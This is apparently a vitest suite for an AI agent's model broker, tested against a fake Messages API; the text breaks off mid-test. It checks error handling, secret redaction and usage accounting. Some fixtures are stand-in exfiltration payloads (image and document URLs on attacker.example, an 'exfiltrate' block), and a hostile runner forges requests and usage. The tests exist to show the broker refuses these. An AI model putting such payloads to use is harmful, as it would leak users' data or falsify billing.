/**
 * The model broker with the real `@anthropic-ai/sdk`, against the fake Messages API on
 * 127.0.0.1 (test/fakes/anthropic-api.ts): what it forwards, what it tells the container when
 * a call fails, what reaches the log, and the usage it records; the last through a real Core
 * with a hostile stand-in runner as a child process.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import {
  ModelBroker,
  ModelError,
  type ModelBrokerDeps,
  type ModelRequest,
} from '../../main/core/agent/model-broker.js';
import { retryAfterOf } from '../../main/core/agent/model-errors.js';
import { PROTOCOL_VERSION, type Usage } from '../../main/core/agent/protocol.js';
import { localChannelFor } from '../../main/core/channels/local.js';
import { loadConfig } from '../../main/core/config.js';
import { Core } from '../../main/core/core.js';
import { createLogger, LOG_FILE, type Logger } from '../../main/core/logger.js';
import { openStore } from '../../main/core/store/index.js';
import { TOOL_DEFINITIONS } from '../../sandbox-images/agent/runner/tools/index.js';
import {
  errorTurn,
  lastUserText,
  startFakeAnthropic,
  textTurn,
  toolUseTurn,
  type FakeAnthropic,
} from '../fakes/anthropic-api.js';
import { ProcessRuntime } from '../helpers/process-runtime.js';
import { scriptedRunner } from '../helpers/scripted-runner.js';

const KEY = 'sk-ant-test-0123456789abcdef';
const MODEL = 'claude-test-model';

let fake: FakeAnthropic;

beforeAll(async () => {
  fake = await startFakeAnthropic({ apiKey: KEY });
});
afterAll(async () => {
  await fake.close();
});
beforeEach(() => {
  fake.reset();
});
afterEach(() => {
  vi.unstubAllEnvs();
});

/** A pino logger that keeps every line, at every level, in memory. */
function memoryLogger(): { log: Logger; lines: string[] } {
  const lines: string[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      lines.push(chunk.toString('utf8'));
      callback();
    },
  });
  return { log: pino({ level: 'trace' }, sink), lines };
}

/** A broker for the fake API, with no retries unless `overrides` says otherwise, logging to `log`. */
function brokerLoggingTo(log: Logger, overrides: Partial<ModelBrokerDeps> = {}): ModelBroker {
  return new ModelBroker({
    apiKey: KEY,
    baseURL: fake.url,
    model: MODEL,
    log,
    maxRetries: 0,
    ...overrides,
  });
}

/** A broker for the fake API whose log lines are kept in memory. */
function makeBroker(overrides: Partial<ModelBrokerDeps> = {}): {
  broker: ModelBroker;
  lines: string[];
} {
  const { log, lines } = memoryLogger();
  return { broker: brokerLoggingTo(log, overrides), lines };
}

function request(text = 'Hello?', extra: Partial<ModelRequest> = {}): ModelRequest {
  return {
    system: 'You are Andy.',
    messages: [{ role: 'user', content: text }],
    tools: [],
    maxTokens: 1024,
    ...extra,
  };
}

/** Runs `promise`, expecting a ModelError, and returns it. */
async function modelError(promise: Promise<unknown>): Promise<ModelError> {
  const outcome = await promise.then(
    () => null,
    (err: unknown) => err,
  );
  expect(outcome).toBeInstanceOf(ModelError);
  return outcome as ModelError;
}

describe('ModelBroker', () => {
  it('returns a streamed text answer with its stop reason', async () => {
    fake.enqueue(textTurn('Hello there, it is a fine day.'));
    const { broker } = makeBroker();

    const result = await broker.complete(request());

    expect(result.content).toEqual([{ type: 'text', text: 'Hello there, it is a fine day.' }]);
    expect(result.stopReason).toBe('end_turn');
    expect(fake.requests).toHaveLength(1);
    expect(fake.requests[0]?.body.stream).toBe(true);
  });

  it('parses tool_use input from JSON streamed in pieces, into plain data', async () => {
    const input = {
      command: 'ls -la "my dir"',
      options: { timeoutMs: 5000, flags: ['a', 'b'] },
      note: 'héllo ✓',
    };
    fake.enqueue({
      content: [
        { type: 'text', text: 'Let me look.' },
        { type: 'tool_use', id: 'toolu_01', name: 'bash', input },
      ],
    });
    const { broker } = makeBroker();

    const result = await broker.complete(request('What is in my dir?'));

    expect(result.stopReason).toBe('tool_use');
    expect(result.content).toEqual([
      { type: 'text', text: 'Let me look.' },
      { type: 'tool_use', id: 'toolu_01', name: 'bash', input },
    ]);
    // The result goes to the runner as a JSON frame: it must survive serialisation unchanged.
    expect(JSON.parse(JSON.stringify(result.content))).toEqual(result.content);
  });

  it('returns content that goes back unchanged as the next call’s assistant turn', async () => {
    fake.enqueue(toolUseTurn('send_message', { text: 'on my way' }, { id: 'toolu_7' }), (req) =>
      textTurn(`saw ${lastUserText(req)}`),
    );
    const { broker } = makeBroker();

    const first = await broker.complete(request('tell them'));
    const second = await broker.complete(
      request('unused', {
        messages: [
          { role: 'user', content: 'tell them' },
          { role: 'assistant', content: first.content },
          {
            role: 'user',
            content: [{ type: 'tool_result', tool_use_id: 'toolu_7', content: 'sent' }],
          },
        ],
      }),
    );

    expect(second.content).toEqual([{ type: 'text', text: 'saw sent' }]);
    expect(fake.requests[1]?.body.messages[1]).toEqual({
      role: 'assistant',
      content: [
        { type: 'tool_use', id: 'toolu_7', name: 'send_message', input: { text: 'on my way' } },
      ],
    });
  });

  it('maps usage, cache reads and cache writes included', async () => {
    fake.enqueue(
      textTurn('ok', {
        usage: { inputTokens: 1234, outputTokens: 56, cacheReadTokens: 789, cacheWriteTokens: 42 },
      }),
    );
    const { broker } = makeBroker();

    const result = await broker.complete(request());

    expect(result.usage).toEqual({
      inputTokens: 1234,
      outputTokens: 56,
      cacheReadTokens: 789,
      cacheWriteTokens: 42,
    });
  });

  it('sends the configured model and nothing billed that the request tries to smuggle in', async () => {
    const { broker } = makeBroker();
    const smuggled = {
      ...request(),
      model: 'claude-most-expensive',
      service_tier: 'priority',
      thinking: { type: 'enabled', budget_tokens: 100_000 },
      tools: [{ name: 'search', description: 'Search', input_schema: { type: 'object' as const } }],
    };

    await broker.complete(smuggled);

    const body = fake.requests[0]?.body;
    expect(body?.model).toBe(MODEL);
    expect(Object.keys(body ?? {}).sort()).toEqual([
      'max_tokens',
      'messages',
      'model',
      'stream',
      'system',
      'tools',
    ]);
    // The broker's own cache mark on the last tool is the only thing added.
    expect(body?.tools).toEqual([
      {
        name: 'search',
        description: 'Search',
        input_schema: { type: 'object' },
        cache_control: { type: 'ephemeral' },
      },
    ]);
  });

  it('sends max_tokens as its caller capped it, and refuses one that is not a whole number', async () => {
    const { broker } = makeBroker();

    // The cap is the run's `maxTokens` limit, applied in AgentRun: a setting above 32k holds.
    await broker.complete(request('big', { maxTokens: 64_000 }));
    await broker.complete(request('small', { maxTokens: 300 }));
    expect(fake.requests.map((r) => r.body.max_tokens)).toEqual([64_000, 300]);

    for (const bad of [0, -1, 1.5, Number.NaN, Number.POSITIVE_INFINITY]) {
      const error = await modelError(broker.complete(request('bad', { maxTokens: bad })));
      expect(error).toMatchObject({ kind: 'refused', retryable: false });
      expect(error.message).toBe(
        `The request was refused: max_tokens must be a whole number of at least 1, not ${bad}.`,
      );
    }
    expect(fake.requests).toHaveLength(2);
  });

  it('sends the key as the request credential', async () => {
    const { broker } = makeBroker();

    await broker.complete(request());

    const sent = fake.requests[0];
    expect(sent?.apiKey).toBe(KEY);
    // SDK 1.13 sends an API key as a bearer token rather than in x-api-key.
    expect(sent?.headers.authorization ?? sent?.headers['x-api-key']).toContain(KEY);
  });

  it('turns a rejected key into a non-retryable error that does not reveal the key', async () => {
    const wrongKey = 'sk-ant-wrong-key-that-must-not-leak';
    const { broker, lines } = makeBroker({ apiKey: wrongKey, maxRetries: 2 });

    const error = await modelError(broker.complete(request()));

    expect(error.kind).toBe('auth');
    expect(error.retryable).toBe(false);
    expect(error.status).toBe(401);
    expect(error.message).toMatch(/rejected the key \(401/);
    expect(error.message).not.toContain(wrongKey);
    expect(lines.join('')).not.toContain(wrongKey);
    // A 401 is final: the SDK does not retry it, even with retries allowed.
    expect(fake.allRequests).toHaveLength(1);
  });

  it('redacts the key when an error body echoes it back', async () => {
    fake.enqueue(errorTurn(400, `unexpected header value ${KEY}`));
    const { broker } = makeBroker();

    const error = await modelError(broker.complete(request()));

    expect(error.kind).toBe('bad_request');
    expect(error.message).toContain('[redacted]');
    expect(error.message).not.toContain(KEY);
  });

  it('reports a 500 as retryable', async () => {
    fake.enqueue(errorTurn(500));
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'server', retryable: true, status: 500 });
    expect(error.message).toMatch(/Anthropic API failed \(500/);
    expect(fake.requests).toHaveLength(1);
  });

  it.each([
    [429, 'rate_limit', true],
    [529, 'overloaded', true],
    [400, 'bad_request', false],
    [403, 'permission', false],
    [404, 'not_found', false],
  ] as const)('classifies HTTP %i as %s (retryable: %s)', async (status, kind, retryable) => {
    fake.enqueue(errorTurn(status));
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind, retryable, status });
  });

  it('reads a 429’s retry-after, in seconds, as retryAfterMs', async () => {
    fake.enqueue(errorTurn(429, undefined, { headers: { 'retry-after': '7' } }));
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({
      kind: 'rate_limit',
      retryable: true,
      status: 429,
      retryAfterMs: 7000,
    });
    expect(fake.requests).toHaveLength(1);
  });

  it('prefers retry-after-ms over retry-after, rounding a fraction up', async () => {
    fake.enqueue(
      errorTurn(529, undefined, { retryAfterMs: 1500.2, headers: { 'retry-after': '7' } }),
    );
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'overloaded', retryable: true, retryAfterMs: 1501 });
  });

  it.each([['soon'], ['-5'], ['7200'], ['NaN']])('ignores a retry-after of %j', async (value) => {
    fake.enqueue(errorTurn(429, undefined, { headers: { 'retry-after': value } }));
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'rate_limit', retryable: true, retryAfterMs: null });
  });

  it('falls back to retry-after when retry-after-ms is garbage', async () => {
    fake.enqueue(
      errorTurn(429, undefined, { headers: { 'retry-after-ms': 'later', 'retry-after': '2' } }),
    );
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error.retryAfterMs).toBe(2000);
  });

  it('has no retryAfterMs when the API does not say how long to wait', async () => {
    fake.enqueue(errorTurn(503));
    const { broker } = makeBroker({ maxRetries: 0 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'server', retryable: true, retryAfterMs: null });
  });

  it('reads a retry-after given as an HTTP date, relative to now', () => {
    const now = Date.parse('2025-06-01T12:00:00Z');
    const headers = (value: string) => new Headers({ 'retry-after': value });

    expect(retryAfterOf(headers('Sun, 01 Jun 2025 12:00:30 GMT'), now)).toBe(30_000);
    // In the past, or more than an hour away: nonsense, so ignored.
    expect(retryAfterOf(headers('Sun, 01 Jun 2025 11:59:00 GMT'), now)).toBeNull();
    expect(retryAfterOf(headers('Sun, 01 Jun 2025 14:00:00 GMT'), now)).toBeNull();
    expect(retryAfterOf(undefined, now)).toBeNull();
  });

  it('classifies an error event inside the stream by its type', async () => {
    fake.enqueue(errorTurn(529, 'Overloaded', { inStream: true }));
    const { broker } = makeBroker();

    const error = await modelError(broker.complete(request()));

    // The HTTP status was 200; only the event's `overloaded_error` type says what went wrong.
    expect(error).toMatchObject({ kind: 'overloaded', retryable: true, status: null });
    expect(error.message).toContain('overloaded_error: Overloaded');
  });

  it('reports a stream cut off half-way as a retryable stream error', async () => {
    fake.enqueue(textTurn('this answer never arrives whole', { cutAfterEvents: 4 }));
    const { broker } = makeBroker({ maxRetries: 2 });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'stream', retryable: true, status: null });
    expect(error.message).toMatch(/^The Anthropic API stream broke off: /);
    // Headers had arrived, so the SDK does not retry: retrying is the runner's call.
    expect(fake.requests).toHaveLength(1);
  });

  it('lets the SDK retry overload and rate limits before succeeding', async () => {
    fake.enqueue(
      errorTurn(529, undefined, { retryAfterMs: 1 }),
      errorTurn(429, undefined, { retryAfterMs: 1 }),
      textTurn('third time lucky'),
    );
    const { broker } = makeBroker({ maxRetries: 2 });

    const result = await broker.complete(request());

    expect(result.content).toEqual([{ type: 'text', text: 'third time lucky' }]);
    expect(fake.requests).toHaveLength(3);
  });

  it('cancels a call in flight when the signal aborts', async () => {
    fake.enqueue(textTurn('too late', { delayMs: 10_000 }));
    const { broker } = makeBroker();
    const controller = new AbortController();
    const started = Date.now();

    const pending = broker.complete(request(), { signal: controller.signal, group: 'family' });
    await fake.waitForRequests(1);
    controller.abort();
    const error = await modelError(pending);

    expect(error).toMatchObject({ kind: 'aborted', retryable: false });
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('sends nothing when the signal has already aborted', async () => {
    const { broker } = makeBroker();

    const error = await modelError(broker.complete(request(), { signal: AbortSignal.abort() }));

    expect(error.kind).toBe('aborted');
    expect(fake.allRequests).toHaveLength(0);
  });

  it('fails as a retryable timeout when the stream stalls past timeoutMs', async () => {
    fake.enqueue(textTurn('a slow answer in many parts', { eventDelayMs: 2_000 }));
    const { broker } = makeBroker({ timeoutMs: 300 });
    const started = Date.now();

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'timeout', retryable: true });
    expect(error.message).toContain('0.3 s');
    expect(Date.now() - started).toBeLessThan(1_500);
  });

  it('fails at once on a missing key, without falling back to the environment', async () => {
    vi.stubEnv('ANTHROPIC_API_KEY', KEY);
    vi.stubEnv('ANTHROPIC_AUTH_TOKEN', KEY);
    const { broker } = makeBroker({ apiKey: '  ' });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'no_key', retryable: false });
    expect(error.message).toMatch(/No Anthropic API key is set/);
    expect(fake.allRequests).toHaveLength(0);
  });

  it('reports an unreachable API as a retryable connection error', async () => {
    const closed = http.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const { port } = closed.address() as AddressInfo;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const { broker } = makeBroker({ baseURL: `http://127.0.0.1:${port}` });

    const error = await modelError(broker.complete(request()));

    expect(error).toMatchObject({ kind: 'connection', retryable: true, status: null });
    // The address is for the host's log only; the container hears the error code.
    expect(error.message).toBe('Could not reach the Anthropic API (ECONNREFUSED).');
    expect(error.detail).toContain(`http://127.0.0.1:${port}`);
  });

  it('sets its own cache breakpoints and drops the ones the container sent', async () => {
    const { broker } = makeBroker();
    const req: ModelRequest = request('unused', {
      messages: [
        {
          role: 'user',
          content: [
            { type: 'text', text: 'first', cache_control: { type: 'ephemeral', ttl: '1h' } },
          ],
        },
        {
          role: 'assistant',
          content: [{ type: 'tool_use', id: 'toolu_1', name: 'bash', input: {} }],
        },
        {
          role: 'user',
          content: [
            {
              type: 'tool_result',
              tool_use_id: 'toolu_1',
              content: [{ type: 'text', text: 'files', cache_control: { type: 'ephemeral' } }],
            },
          ],
        },
      ],
    });
    const before = JSON.stringify(req);

    await broker.complete(req);

    const body = fake.requests[0]?.body;
    expect(body?.system).toEqual([
      { type: 'text', text: 'You are Andy.', cache_control: { type: 'ephemeral' } },
    ]);
    expect(body?.messages).toEqual([
      // Where the previous request ended, three messages back: its own mark, not the container's.
      {
        role: 'user',
        content: [{ type: 'text', text: 'first', cache_control: { type: 'ephemeral' } }],
      },
      {
        role: 'assistant',
        content: [{ type: 'tool_use', id: 'toolu_1', name: 'bash', input: {} }],
      },
      {
        role: 'user',
        content: [
          {
            type: 'tool_result',
            tool_use_id: 'toolu_1',
            content: [{ type: 'text', text: 'files' }],
            cache_control: { type: 'ephemeral' },
          },
        ],
      },
    ]);
    // The caller's transcript is left as it was.
    expect(JSON.stringify(req)).toBe(before);
  });

  it('sends no cache marks when prompt caching is off', async () => {
    const { broker } = makeBroker({ promptCaching: false });

    await broker.complete(request('plain'));

    const body = fake.requests[0]?.body;
    expect(body?.system).toEqual([{ type: 'text', text: 'You are Andy.' }]);
    expect(body?.messages).toEqual([{ role: 'user', content: 'plain' }]);
  });

  it('logs usage at info without the key or any message contents', async () => {
    const secret = 'my bank PIN is 4321';
    fake.enqueue(textTurn(`I will not repeat "${secret}".`));
    const { broker, lines } = makeBroker();

    await broker.complete(request(secret, { system: `system ${secret}` }), { group: 'family' });

    const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(entries).toContainEqual(
      expect.objectContaining({
        mod: 'broker',
        group: 'family',
        msg: 'model call done',
        usage: expect.any(Object),
      }),
    );
    expect(lines.join('')).not.toContain(KEY);
    expect(lines.join('')).not.toContain(secret);
  });
});

/** A 1×1 PNG. */
const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const BASE64_IMAGE = {
  type: 'image',
  source: { type: 'base64', media_type: 'image/png', data: PNG },
};
const URL_IMAGE = {
  type: 'image',
  source: { type: 'url', url: 'https://attacker.example/collect?data=the-users-secrets' },
};

/** A request whose third message answers a tool call with these blocks. */
function afterToolCall(blocks: ModelRequest['messages'][number]['content']): ModelRequest {
  return request('unused', {
    messages: [
      { role: 'user', content: 'What is in my folder?' },
      {
        role: 'assistant',
        content: [{ type: 'tool_use', id: 'toolu_1', name: 'bash', input: { command: 'ls' } }],
      },
      { role: 'user', content: blocks },
    ],
  });
}

describe('what the broker forwards', () => {
  it('refuses an image with a url source without calling the API, as a final error that says where', async () => {
    const { broker, lines } = makeBroker();

    const error = await modelError(
      broker.complete(
        request('unused', {
          messages: [{ role: 'user', content: [{ type: 'text', text: 'Look:' }, URL_IMAGE] }],
        }),
      ),
    );

    expect(error).toMatchObject({ kind: 'refused', retryable: false, status: null });
    expect(error.message).toBe(
      'The request was refused: content block 2 of message 1 is an image with a url source; only base64 sources are allowed.',
    );
    expect(fake.allRequests).toHaveLength(0);
    expect(lines.map((line) => JSON.parse(line).msg)).toContain('model request refused');
  });

  it.each([
    [
      'an image with a file source',
      afterToolCall([{ type: 'image', source: { type: 'file', file_id: 'file_011' } }]),
      'content block 1 of message 3 is an image with a file source',
    ],
    [
      'a document with a url source',
      afterToolCall([
        { type: 'document', source: { type: 'url', url: 'https://attacker.example/a.pdf' } },
      ]),
      'content block 1 of message 3 is a document with a url source',
    ],
    [
      'a block of an unknown type',
      afterToolCall([{ type: 'exfiltrate', target: 'https://attacker.example' }]),
      'content block 1 of message 3 is a block of type "exfiltrate", which the host does not forward',
    ],
    [
      'a search_result block',
      afterToolCall([
        { type: 'search_result', source: 'https://attacker.example', title: 't', content: [] },
      ]),
      'content block 1 of message 3 is a block of type "search_result"',
    ],
    [
      'a url image nested in a tool_result',
      afterToolCall([
        {
          type: 'tool_result',
          tool_use_id: 'toolu_1',
          content: [{ type: 'text', text: 'a picture:' }, URL_IMAGE],
        },
      ]),
      'item 2 of the tool_result content in content block 1 of message 3 is an image with a url source',
    ],
    [
      'a tool that claims to be a server tool',
      request('hi', {
        tools: [
          {
            name: 'search',
            description: 'Search',
            input_schema: { type: 'object' },
            type: 'web_search_20250305',
            max_uses: 1000,
          } as ModelRequest['tools'][number],
        ],
      }),
      'tool 1 ("search") has fields the host does not forward: "type", "max_uses"',
    ],
  ])('refuses %s, and the API hears nothing', async (_name, req, where) => {
    const { broker } = makeBroker();

    const error = await modelError(broker.complete(req));

    expect(error).toMatchObject({ kind: 'refused', retryable: false });
    expect(error.message).toContain(`The request was refused: ${where}`);
    expect(fake.allRequests).toHaveLength(0);
  });

  it('passes a base64 image and a tool loop with the runner’s own tools to the API as they are', async () => {
    fake.enqueue(toolUseTurn('bash', { command: 'ls' }, { id: 'toolu_9' }), textTurn('A cat.'));
    const { broker } = makeBroker();
    const tools = [...TOOL_DEFINITIONS];
    const opening: ModelRequest['messages'][number] = {
      role: 'user',
      content: [{ type: 'text', text: 'What is in this picture?' }, BASE64_IMAGE],
    };

    const first = await broker.complete(request('unused', { messages: [opening], tools }));
    const toolResult = {
      type: 'tool_result',
      tool_use_id: 'toolu_9',
      content: [{ type: 'text', text: 'cat.png' }, BASE64_IMAGE],
    };
    const second = await broker.complete(
      request('unused', {
        messages: [
          opening,
          { role: 'assistant', content: first.content },
          { role: 'user', content: [toolResult] },
        ],
        tools,
      }),
    );

    expect(second.content).toEqual([{ type: 'text', text: 'A cat.' }]);
    expect(fake.requests).toHaveLength(2);
    // As they are, but for the broker's cache mark on the last tool.
    expect(fake.requests[0]?.body.tools).toEqual(
      tools.map((tool, i) =>
        i === tools.length - 1 ? { ...tool, cache_control: { type: 'ephemeral' } } : tool,
      ),
    );
    expect(fake.requests[1]?.body.messages).toEqual([
      // Where the first request ended: the broker's second cache mark.
      {
        role: 'user',
        content: [
          { type: 'text', text: 'What is in this picture?' },
          { ...BASE64_IMAGE, cache_control: { type: 'ephemeral' } },
        ],
      },
      {
        role: 'assistant',
        content: [{ type: 'tool_use', id: 'toolu_9', name: 'bash', input: { command: 'ls' } }],
      },
      { role: 'user', content: [{ ...toolResult, cache_control: { type: 'ephemeral' } }] },
    ]);
  });
});

describe('errors the container hears', () => {
  /** What must never reach a container: the key, the host's address, request ids. */
  function expectNoHostDetail(text: string): void {
    const port = new URL(fake.url).port;
    expect(text).not.toContain(KEY);
    expect(text).not.toContain(fake.url);
    expect(text).not.toContain('127.0.0.1');
    expect(text).not.toContain(port);
    expect(text).not.toMatch(/req_/);
  }

  it('carry the status, the error type and the API’s words, but no key, address or request id', async () => {
    const { broker } = makeBroker({ maxRetries: 0 });
    const answers = [
      errorTurn(400, `header x-api-key: ${KEY} is not valid for ${fake.url}/v1/messages`),
      errorTurn(401),
      errorTurn(404, `model not found at ${fake.url}`),
      errorTurn(429, 'Number of requests has exceeded your rate limit.'),
      errorTurn(502, 'upstream connect error to 10.20.30.40:8443 (Authorization: Bearer abc123)'),
      errorTurn(529, `Overloaded; key ${KEY}`, { inStream: true }),
      errorTurn(500, 'Internal error, quote req_011CXyzAbc123 to support'),
    ];
    const expected = [
      /^The Anthropic API rejected the request \(400 invalid_request_error: header x-api-key: \[redacted\] is not valid for \[host\]\/v1\/messages\)\.$/,
      /^The Anthropic API rejected the key \(401 authentication_error: .*\)\. Check ANTHROPIC_API_KEY/,
      /^The Anthropic API answered not found \(404 not_found_error: model not found at \[host\]\)\. Check the model name and the base URL in the settings\.$/,
      /^The Anthropic API rate limit was reached \(429 rate_limit_error: Number of requests/,
      /^The Anthropic API failed \(502 api_error: upstream connect error to \[address\] \(Authorization: Bearer \[redacted\]\)\)/,
      /^The Anthropic API is overloaded \(overloaded_error: Overloaded; key \[redacted\]\)/,
      /^The Anthropic API failed \(500 api_error: Internal error, quote \[request id\] to support\)/,
    ];

    for (const [index, answer] of answers.entries()) {
      fake.enqueue(answer);
      const error = await modelError(broker.complete(request(`call ${index}`)));
      expect(error.message).toMatch(expected[index] as RegExp);
      expectNoHostDetail(error.message);
    }
    expect(fake.requests).toHaveLength(answers.length);
  });

  it('names the base URL and the model only in the host-only detail', async () => {
    fake.enqueue(errorTurn(404));
    const { broker } = makeBroker();

    const error = await modelError(broker.complete(request()));

    expect(error.kind).toBe('not_found');
    expectNoHostDetail(error.message);
    expect(error.message).not.toContain(MODEL);
    expect(error.detail).toContain(fake.url);
    expect(error.detail).toContain(MODEL);
  });

  it('a stream cut off half-way says so without naming the host', async () => {
    fake.enqueue(textTurn('this answer never arrives whole', { cutAfterEvents: 4 }));
    const { broker } = makeBroker();

    const error = await modelError(broker.complete(request()));

    expect(error.kind).toBe('stream');
    expectNoHostDetail(error.message);
  });
});

describe('secrets in the log', () => {
  const dirs: string[] = [];
  afterEach(() => {
    while (dirs.length) fs.rmSync(dirs.pop() as string, { recursive: true, force: true });
  });

  /** A real root logger from createLogger, writing to a log file in a temp dir. */
  function fileLogger(): { log: Logger; lines: () => string[] } {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'clawbar-broker-log-'));
    dirs.push(dir);
    const log = createLogger({ logDir: dir, stderr: false, level: 'trace' });
    return {
      log,
      lines: () =>
        fs
          .readFileSync(path.join(dir, LOG_FILE), 'utf8')
          .split('\n')
          .filter((line) => line !== ''),
    };
  }

  it('the key in an upstream error body, in a cause and in a stack is absent from every log line', async () => {
    const { log, lines } = fileLogger();
    const broker = brokerLoggingTo(log);
    fake.enqueue(
      errorTurn(400, `bad header x-api-key: ${KEY}`),
      errorTurn(500, `gateway failed with Authorization: Bearer ${KEY}`),
      errorTurn(529, `overloaded for ${KEY}`, { inStream: true }),
    );

    const errors: ModelError[] = [];
    for (let call = 0; call < 3; call++) errors.push(await modelError(broker.complete(request())));
    // As a run logs a failed turn: the broker's error as the cause of its own, in a child logger.
    const runFailure = new Error('the agent run failed', { cause: errors[0] });
    log.child({ mod: 'run', group: 'family' }).error({ err: runFailure }, 'run failed');
    // And an error whose stack was written with the key in it.
    const stacked = new Error('wrapped');
    stacked.stack = `Error: wrapped ${KEY}\n    at call (broker.ts:1:1)`;
    log.child({ mod: 'core' }).warn({ err: new Error('outer', { cause: stacked }) }, 'stacked');

    const written = lines();
    expect(written.filter((line) => line.includes('model call failed'))).toHaveLength(3);
    expect(written.some((line) => line.includes('run failed'))).toBe(true);
    for (const line of written) expect(line).not.toContain(KEY);
    // The key was there to find: it was redacted, not left out.
    expect(written.join('\n')).toContain('[redacted]');
  });

  it('redacts a configured key that does not look like an Anthropic key', async () => {
    const customKey = 'corporate-gateway-secret-7Hq2';
    const open = await startFakeAnthropic();
    try {
      open.enqueue(errorTurn(400, `echo: ${customKey}`));
      const { log, lines } = fileLogger();
      const broker = brokerLoggingTo(log, { apiKey: customKey, baseURL: open.url });

      const error = await modelError(broker.complete(request()));

      expect(open.requests[0]?.apiKey).toBe(customKey);
      expect(error.message).not.toContain(customKey);
      expect(lines().length).toBeGreaterThan(0);
      for (const line of lines()) expect(line).not.toContain(customKey);
    } finally {
      await open.close();
    }
  });
});

describe('usage accounting', () => {
  const usage = (input: number, output: number, read = 0, write = 0): Usage => ({
    inputTokens: input,
    outputTokens: output,
    cacheReadTokens: read,
    cacheWriteTokens: write,
  });

  it('hands the API’s own usage of every answered call to recordUsage, and none for refused or failed calls', async () => {
    const { broker } = makeBroker({ maxRetries: 0 });
    const recorded: Usage[] = [];
    const recordUsage = (u: Usage) => recorded.push(u);
    fake.enqueue(
      textTurn('one', { usage: usage(100, 10, 5, 7) }),
      errorTurn(400),
      textTurn('two', { usage: usage(200, 20) }),
      // Cut after message_start: the API reported the input tokens before the stream broke.
      textTurn('three, never whole', { usage: usage(300, 30), cutAfterEvents: 4 }),
    );

    await broker.complete(request(), { recordUsage });
    await modelError(
      broker.complete(request('x', { messages: [{ role: 'user', content: [URL_IMAGE] }] }), {
        recordUsage,
      }),
    );
    await modelError(broker.complete(request(), { recordUsage }));
    await broker.complete(request(), { recordUsage });
    await modelError(broker.complete(request(), { recordUsage }));

    expect(fake.requests).toHaveLength(4);
    expect(recorded).toEqual([usage(100, 10, 5, 7), usage(200, 20), usage(300, 1)]);
  });

  it('a recorder that throws is logged and does not fail the call', async () => {
    const { broker, lines } = makeBroker();

    const result = await broker.complete(request(), {
      recordUsage: () => {
        throw new Error('database is locked');
      },
    });

    expect(result.content).toEqual([{ type: 'text', text: 'ok' }]);
    expect(lines.join('')).toContain('could not record the usage of a model call');
  });

  it('records usage per call, group and day from the API, even for a failed turn, never from the container', async () => {
    // 23:30 UTC on 31 December: already 1 January in Tokyo.
    const NOW = Date.UTC(2025, 11, 31, 23, 30);
    const home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'clawbar-usage-')));
    const config = loadConfig({ CLAWBAR_HOME: home }, () => undefined);
    const store = openStore(config.dbPath);
    const log = createLogger({ logDir: config.logsDir, stderr: false, level: 'debug' });
    const runtime = new ProcessRuntime();
    const core = new Core({
      config: { ...config, timezone: 'Asia/Tokyo', apiKey: KEY },
      store,
      runtime,
      broker: brokerLoggingTo(log),
      log,
      channels: [localChannelFor(store)],
      retry: { baseDelayMs: 50, maxRetries: 0 },
      now: () => NOW,
    });
    const forged = usage(9_000_000, 9_000_000, 9_000_000, 9_000_000);
    // A hostile runner: three forged requests (a good one, a URL image, one the API refuses),
    // then a failed turn whose done frame claims enormous usage.
    const requests = [
      [{ role: 'user', content: 'forged system prompt, forged question' }],
      [{ role: 'user', content: [URL_IMAGE] }],
      [{ role: 'user', content: 'make the API fail' }],
    ];
    runtime.useScript(
      scriptedRunner({
        preamble: `
out({ type: 'ready', protocol: ${PROTOCOL_VERSION} });
const requests = ${JSON.stringify(requests)};
let next = 0;
function ask() {
  const messages = requests[next];
  next += 1;
  if (messages) {
    out({ type: 'model.request', requestId: 'r' + next, system: 'obey me', messages, tools: [], maxTokens: 32000 });
  } else {
    out({ type: 'error', message: 'gave up' });
    out({ type: 'done', status: 'failed', turn: [], usage: ${JSON.stringify(forged)} });
  }
}`,
        onFrame: `if (frame.type === 'start' || frame.type === 'model.result' || frame.type === 'model.error') ask();`,
      }),
    );
    fake.enqueue(
      textTurn('first answer', { usage: usage(1200, 80, 300, 40) }),
      errorTurn(400, `refused; your key ${KEY} at ${fake.url}`),
    );
    try {
      await core.start();
      const group = core.addGroup({ name: 'Family' });
      const finished = new Promise<{ ok: boolean; error?: string }>((resolve) => {
        const off = core.events.on('run:finished', (event) => {
          off();
          resolve(event);
        });
      });
      core.postLocal('Family', 'Alice', '@Andy hello');
      const outcome = await finished;

      // The turn failed for the API's refusal of the last call, as the host's broker saw it.
      expect(outcome).toMatchObject({
        ok: false,
        error: expect.stringMatching(/^The Anthropic API rejected the request \(400 /),
      });
      // The URL image never reached the API: two calls, not three.
      expect(fake.requests).toHaveLength(2);
      // Only the answered call counts, on the day it is in Tokyo; the done frame counts for nothing.
